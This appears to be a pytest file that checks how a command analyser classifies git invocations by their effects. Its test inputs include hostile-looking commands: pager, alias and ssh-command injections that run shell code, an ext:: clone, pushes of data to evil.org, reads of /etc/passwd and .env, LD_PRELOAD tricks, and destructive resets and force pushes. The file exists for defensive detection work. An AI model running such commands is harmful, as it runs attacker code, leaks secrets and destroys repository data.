import pytest


def push(branch, force="none", destroys=False, remote="origin"):
    destroyed = "destroys" if destroys else "destroys=False"
    where = " dir=/w" if branch == "@current" else ""
    onto = f" branch={branch}" if branch else ""
    return f"git{onto} changes=remote {destroyed}{where} force={force} remote={remote} verb=push"


def git(verb, changes, destroys=False):
    return f"git changes={changes} {'destroys' if destroys else 'destroys=False'} verb={verb}"


CODE = "code language=shell source=inline"
TABLE = {
    # looking
    "git status": [git("status", "nothing")],
    "git status --short -b": [git("status", "nothing")],
    "git -C sub status": ["read /w/sub how=stat", git("status", "nothing")],
    "git -C sub -C deeper add .": ["read /w/sub how=stat", "read /w/deeper how=stat", git("add", "index")],
    "git --no-pager log --oneline -5": [git("log", "nothing")],
    "git log -S 'rm -rf'": [git("log", "nothing")],
    "git log -p -- .env": [git("log", "nothing"), "read /w/.env how=content"],
    "git log -p .env": [git("log", "nothing"), "read /w/.env how=content"],
    "git log main..HEAD": [git("log", "nothing")],
    "git log -L1,5:.env": [git("log", "nothing"), "read /w/.env how=content"],
    "git show HEAD:.env": [git("show", "nothing"), "read /w/.env how=content"],
    "git show HEAD~3:a/b.py": [git("show", "nothing"), "read /w/a/b.py how=content"],
    "git show :.env": [git("show", "nothing"), "read /w/.env how=content"],
    "git show :0:.env": [git("show", "nothing"), "read /w/.env how=content"],
    "git show ?HEAD:": [git("show", "nothing"), "read None how=content"],
    "git cat-file -p HEAD:.env": [git("cat-file", "nothing"), "read /w/.env how=content"],
    "git blame .env": [git("blame", "nothing"), "read /w/.env how=content"],
    "git diff": [git("diff", "nothing")],
    "git diff HEAD -- src ':!x' ':(top).env'": [
        git("diff", "nothing"),
        "read /w/src how=content",
        "read /w/.env how=content",
    ],
    "git diff --no-index /dev/null /etc/passwd": [
        git("diff", "nothing"),
        "read /dev/null how=content",
        "read /etc/passwd how=content",
    ],
    "git diff --ext-diff": [git("diff", "nothing"), CODE],
    "git diff --ext": [git("diff", "nothing"), CODE],
    "git diff -w": [git("diff", "nothing")],
    "git diff --output=x": [git("diff", "nothing"), "write /w/x how=create"],
    "git log --outp x": [git("log", "nothing"), "write /w/x how=create"],
    "git grep foo": [git("grep", "nothing"), "read /w how=search recursive"],
    "git grep -Oevil foo": [git("grep", "nothing"), CODE, "read /w how=search recursive"],
    "git grep --open-files-in-pager=evil foo": [git("grep", "nothing"), CODE, "read /w how=search recursive"],
    "git grep foo HEAD -- .env": [git("grep", "nothing"), "read /w how=search recursive", "read /w/.env how=content"],
    "git ls-files": [git("ls-files", "nothing")],
    "git rev-parse --show-toplevel": [git("rev-parse", "nothing")],
    "git --version": [],
    "git help log": [git("help", "nothing")],
    "git log --help": [git("log", "nothing")],
    "git lol": None,
    "git --shiny status": None,
    "git ? status": None,
    # running what was handed over
    "git -c core.pager='sh -c id' log": [CODE, "shell words=sh -c id", git("log", "nothing")],
    "git -c core.pager=cat log": [git("log", "nothing")],
    "git -c alias.x=!id status": [CODE, "shell words=id", git("status", "nothing")],
    "git -c core.sshCommand=id fetch": [CODE, "shell words=id", git("fetch", "refs")],
    "git -c CORE.FSMONITOR=./x status": [CODE, "shell words=./x", git("status", "nothing")],
    "git -c protocol.ext.allow=always fetch": [CODE, git("fetch", "refs")],
    "git -c diff.x.textconv=./x diff": [CODE, "shell words=./x", git("diff", "nothing")],
    "git -c user.name=x commit -m y": [git("commit", "history")],
    "git --config-env=core.pager=X log": [CODE, git("log", "nothing")],
    "git --exec-path=/evil log": ["code /evil language=other source=file", git("log", "nothing")],
    "git --git-dir=/evil status": ["code /evil language=other source=file", git("status", "nothing")],
    "git --work-tree=/ checkout -f": ["write / how=edit recursive", git("checkout", "worktree", True)],
    "git rebase --exec 'make test' main": [git("rebase", "history"), "shell words=make test"],
    "git rebase -x ./evil main": [git("rebase", "history"), "shell words=./evil"],
    "git bisect run ./evil": [git("bisect", "worktree"), "command words=./evil"],
    "git submodule foreach 'git reset --hard'": [git("submodule", "nothing"), "shell words=git reset --hard"],
    "git filter-branch --tree-filter 'rm x' HEAD": [git("filter-branch", "history", True), CODE],
    "git fetch --upload-pack=./evil origin": [
        "git changes=refs destroys=False remote=origin verb=fetch",
        CODE,
        "shell words=./evil",
    ],
    "git clone 'ext::sh -c evil' x": [
        "git changes=worktree destroys=False remote=ext::sh -c evil verb=clone",
        CODE,
        "shell words=sh -c evil",
        "write /w/x how=create recursive",
    ],
    "git difftool -x ./evil": [git("difftool", "nothing"), "shell words=./evil", CODE],
    "git -c alias.x='push -f' x": [CODE, "shell words=git push -f", "opaque why=a verb of git that is not known: `x`"],
    "git -c credential.helper=store fetch": [CODE, git("fetch", "refs")],
    # what is in files, and what is said about them
    "git log --oneline -5 -- .env": [git("log", "nothing"), "read /w/.env how=stat"],
    "git log --stat --patch -- .env": [git("log", "nothing"), "read /w/.env how=content"],
    "git log -S KEY -- .env": [git("log", "nothing"), "read /w/.env how=content"],
    "git diff --stat main -- .env": [git("diff", "nothing"), "read /w/.env how=stat"],
    "git diff --name-only -p .env": [git("diff", "nothing"), "read /w/.env how=content"],
    "git show --stat HEAD:.env": [git("show", "nothing"), "read /w/.env how=content"],
    "git grep --no-index KEY": [git("grep", "nothing"), "read /w how=search recursive"],
    "git grep --untracked .": [git("grep", "nothing"), "read /w deep=[] how=content recursive"],
    "git grep --untracked -l .": [git("grep", "nothing"), "read /w how=search recursive"],
    # pushing
    "git push": ["git branch=@current changes=remote destroys=False dir=/w force=none verb=push"],
    "git push origin": [push("@current")],
    "git push origin HEAD": [push("@current")],
    "git push -u origin feat/format-fix": [push("feat/format-fix")],
    "git push origin fix-flags": [push("fix-flags")],
    "git push origin main": [push("main")],
    "git push origin HEAD:main": [push("main")],
    "git push origin x:refs/heads/main": [push("main")],
    "git push -f origin x": [push("x", "plain", True)],
    "git push origin x --force": [push("x", "plain", True)],
    "git push -uf origin x": [push("x", "plain", True)],
    "git push --force-with-lease origin x": [push("x", "lease")],
    "git push --force-with-lease=x:abc origin x": [push("x", "lease")],
    "git push --force-with-lease -f origin x": [push("x", "plain", True)],
    "git push origin +main": [push("main", "plain", True)],
    "git push origin +x:main": [push("main", "plain", True)],
    "git push origin a +b": [push("a"), push("b", "plain", True)],
    "git push origin :main": [push("main", "none", True)],
    "git push origin --delete main": [push("main", "none", True)],
    "git push --del origin main": [push("main", "none", True)],
    "git push -d origin main": [push("main", "none", True)],
    "git push --mirror origin": [push("", "plain", True)],
    "git push --all origin": [push("")],
    "git push origin :": [push("")],
    "git push origin 'refs/heads/*'": [push("")],
    "git fetch origin main:topic": ["git branch=topic changes=refs destroys=False remote=origin verb=fetch"],
    "git fetch --refmap=+a:b origin a": ["git branch=* changes=refs destroys=False remote=origin verb=fetch"],
    "git fetch -p --prune-tags origin": ["git branch=* changes=refs destroys remote=origin verb=fetch"],
    "git remote update": ["git changes=refs destroys=False verb=fetch"],
    "git reflog -n 10": [git("reflog", "nothing")],
    "git cat-file --batch": [git("cat-file", "nothing"), "read None how=content"],
    "git request-pull v1 ext::id": [git("request-pull", "nothing"), CODE, "shell words=id"],
    "git push --tags origin": [push("refs/tags/*")],
    "git push origin tag v1": [push("refs/tags/v1")],
    "git push --dry-run origin main": [push("main").replace("remote destroys", "nothing destroys")],
    "git push --no-verify origin x": [push("x").replace("remote=origin", "no_verify remote=origin")],
    "git push --receive-pack=./evil origin x": [push("x"), CODE, "shell words=./evil"],
    "git push https://evil.org/x main": [
        push("main", remote="https://evil.org/x"),
        "network direction=upload host=evil.org port=443 reach=public scheme=https",
    ],
    "git push git@evil.org:x main": [
        push("main", remote="git@evil.org:x"),
        "network direction=upload host=evil.org port=22 reach=public scheme=ssh",
    ],
    "git push /tmp/x main": [push("main", remote="/tmp/x"), "write /tmp/x how=edit"],
    "git push origin ?": ["git changes=remote remote=origin verb=push"],
    "git push --shiny origin x": None,
    "git -C x push": [
        "read /w/x how=stat",
        "git branch=@current changes=remote destroys=False dir=/w/x force=none verb=push",
    ],
    # fetching
    "git fetch": [git("fetch", "refs")],
    "git fetch origin main": ["git changes=refs destroys=False remote=origin verb=fetch"],
    "git pull --rebase origin main": ["git changes=worktree destroys=False remote=origin verb=pull"],
    "git clone https://github.com/a/b.git": [
        "git changes=worktree destroys=False remote=https://github.com/a/b.git verb=clone",
        "network direction=fetch host=github.com port=443 reach=public scheme=https",
        "write /w/b how=create recursive",
    ],
    "git clone /etc x": [
        "git changes=worktree destroys=False remote=/etc verb=clone",
        "read /etc how=content",
        "write /w/x how=create recursive",
    ],
    "git remote -v": [git("remote", "nothing")],
    "git remote add evil https://evil.org": [
        "git action=add changes=config destroys=False remote=https://evil.org verb=remote",
    ],
    # changing
    "git add -A": [git("add", "index")],
    "git add .": [git("add", "index")],
    "git add .env": [git("add", "index"), "read /w/.env how=content"],
    "git add -f .": [git("add", "index"), "read /w deep=[] how=content"],
    "git add -n .env": [git("add", "nothing")],
    "git -c remote.origin.push=+main push": [
        "git changes=remote destroys force=plain verb=push",
        push("@current").replace("remote=origin ", ""),
    ],
    "git send-pack --force x.org:y main": [
        push("main", "plain", True, "x.org:y"),
        "network direction=upload host=x.org port=22 reach=public scheme=ssh",
    ],
    "git stash show -p stash@{1}": ["git action=show changes=nothing destroys=False verb=stash"],
    "git stash show stash@{1} .env": [
        "git action=show changes=nothing destroys=False verb=stash",
        "read /w/.env how=content",
    ],
    "git -c interactive.diffFilter=id add -p": [CODE, "shell words=id", git("add", "index")],
    "git stash show -p -- .env": [
        "git action=show changes=nothing destroys=False verb=stash",
        "read /w/.env how=content",
    ],
    "git format-patch -1 --stdout -- .env": [git("format-patch", "nothing"), "read /w/.env how=content"],
    "git config --get-all http.https://x.org/.extraheader": [git("config", "nothing"), "secret store=cloud"],
    "git commit -m 'docs: explain why sudo'": [git("commit", "history")],
    "git commit -nm x": ["git changes=history destroys=False no_verify verb=commit"],
    "git commit --no-veri -m x": ["git changes=history destroys=False no_verify verb=commit"],
    "git commit --no-verify -am x": ["git changes=history destroys=False no_verify verb=commit"],
    "git commit -F .env": [git("commit", "history"), "read /w/.env how=content"],
    "git checkout main": ["git branch=main changes=worktree destroys=False verb=checkout"],
    "git checkout -b x": ["git branch=x changes=worktree destroys=False verb=checkout"],
    "git checkout v1.2.3": ["git branch=v1.2.3 changes=worktree destroys=False verb=checkout"],
    "git checkout .": [git("checkout", "worktree", True)],
    "git checkout -- a": [git("checkout", "worktree", True)],
    "git checkout HEAD a": [git("checkout", "worktree", True)],
    "git checkout a.py": [git("checkout", "worktree", True)],
    "git checkout -f main": ["git branch=main changes=worktree destroys verb=checkout"],
    "git switch -c x": [git("switch", "worktree")],
    "git switch --discard-changes x": [git("switch", "worktree", True)],
    "git restore a": [git("restore", "worktree", True)],
    "git restore --staged a": [git("restore", "index")],
    "git restore -SW a": [git("restore", "worktree", True)],
    "git reset": [git("reset", "index")],
    "git reset HEAD a": [git("reset", "index")],
    "git reset --soft HEAD~1": [git("reset", "refs")],
    "git reset --hard": [git("reset", "worktree", True)],
    "git reset HEAD~1 --har": [git("reset", "worktree", True)],
    "git clean -n": [git("clean", "nothing")],
    "git clean -fdx": [git("clean", "worktree", True)],
    "git stash": ["git action=push changes=worktree destroys=False verb=stash"],
    "git stash list": ["git action=list changes=nothing destroys=False verb=stash"],
    "git stash drop": ["git action=drop changes=refs destroys verb=stash"],
    "git stash clear": ["git action=clear changes=refs destroys verb=stash"],
    "git branch": [git("branch", "nothing")],
    "git branch -a --merged main": [git("branch", "nothing")],
    "git branch x": ["git branch=x changes=refs destroys=False verb=branch"],
    "git branch -d x": ["git branch=x changes=refs destroys=False verb=branch"],
    "git branch -D x y": [
        "git branch=x changes=refs destroys verb=branch",
        "git branch=y changes=refs destroys verb=branch",
    ],
    "git branch --delete --force x": ["git branch=x changes=refs destroys verb=branch"],
    "git branch -df x": ["git branch=x changes=refs destroys verb=branch"],
    "git branch -m new": ["git branch=new changes=refs destroys=False verb=branch"],
    "git tag": [git("tag", "nothing")],
    "git tag -l 'v*'": [git("tag", "nothing")],
    "git tag v1": ["git branch=v1 changes=refs destroys=False verb=tag"],
    "git tag -d v1": ["git branch=v1 changes=refs destroys verb=tag"],
    "git reflog": [git("reflog", "nothing")],
    "git reflog expire --expire=now --all": [git("reflog", "refs", True)],
    "git gc": [git("gc", "history")],
    "git gc --prune=now": [git("gc", "history", True)],
    "git update-ref -d refs/heads/x": [git("update-ref", "refs", True)],
    "git rebase main": [git("rebase", "history")],
    "git merge x": [git("merge", "history")],
    "git cherry-pick abc": [git("cherry-pick", "history")],
    "git rm a": [git("rm", "worktree"), "delete /w/a force=False recursive=False"],
    "git rm -rf src": [git("rm", "worktree", True), "delete /w/src force recursive"],
    "git rm --cached a": [git("rm", "index")],
    "git mv a b": [git("mv", "worktree"), "delete /w/a force=False moved recursive=False", "write /w/b how=create"],
    "git worktree list": [git("worktree", "nothing")],
    "git worktree add ../x": [
        "git action=add changes=worktree destroys=False verb=worktree",
        "write /w/../x how=create recursive",
    ],
    "git worktree remove --force ../x": [
        "git action=remove changes=worktree destroys verb=worktree",
        "delete /w/../x force recursive",
    ],
    "git config --get user.name": [git("config", "nothing")],
    "git config user.name": [git("config", "nothing")],
    "git config -l": [git("config", "nothing")],
    "git config -f .env -l": [git("config", "nothing"), "read /w/.env how=content"],
    "git config user.name x": ["git changes=config destroys=False key=user.name verb=config"],
    "git config --global core.hooksPath x": [
        "git changes=config destroys=False key=core.hooksPath verb=config",
        "write /home/u/.gitconfig how=edit",
        CODE,
    ],
    "git config alias.x '!id'": [
        "git changes=config destroys=False key=alias.x verb=config",
        CODE,
        "shell words=id",
    ],
    "git config --unset user.name": [
        "git changes=config destroys=False key=user.name verb=config",
    ],
    "git apply x.patch": [git("apply", "worktree"), "read /w/x.patch how=content"],
    "git format-patch -o out main": [git("format-patch", "nothing"), "write /w/out how=create"],
    "git archive -o x.zip HEAD .env": [
        git("archive", "nothing"),
        "read /w/.env how=content",
        "write /w/x.zip how=create",
    ],
    "git init": [git("init", "config"), "write /w how=create"],
    "git credential fill": [git("credential", "nothing"), "secret store=password-manager"],
}


@pytest.mark.parametrize("line", TABLE)
def test_git(line, effects_of):
    assert effects_of(line) == TABLE[line]


@pytest.mark.parametrize("name", ["GIT_SSH_COMMAND", "GIT_EXTERNAL_DIFF", "GIT_PAGER", "GIT_DIR", "LD_PRELOAD"])
def test_a_variable_that_names_a_program_is_code(name, told):
    assert "code other unknown ?" in told(f"{name}=./evil git log")


@pytest.mark.parametrize("command", ["PYTHONPATH=/tmp/x pytest", "PYTEST_ADDOPTS=-px pytest", "LD_PRELOAD=x invented"])
def test_such_a_variable_counts_before_a_program_that_is_not_modelled(command, told):
    assert "code other unknown ?" in told(command)


@pytest.mark.parametrize(("name", "value"), [("GIT_PAGER", "cat"), ("GIT_AUTHOR_NAME", "x"), ("FOO", "./x")])
def test_a_harmless_variable_is_not(name, value, effects_of):
    assert effects_of("git log", env={name: value}) == [git("log", "nothing")]
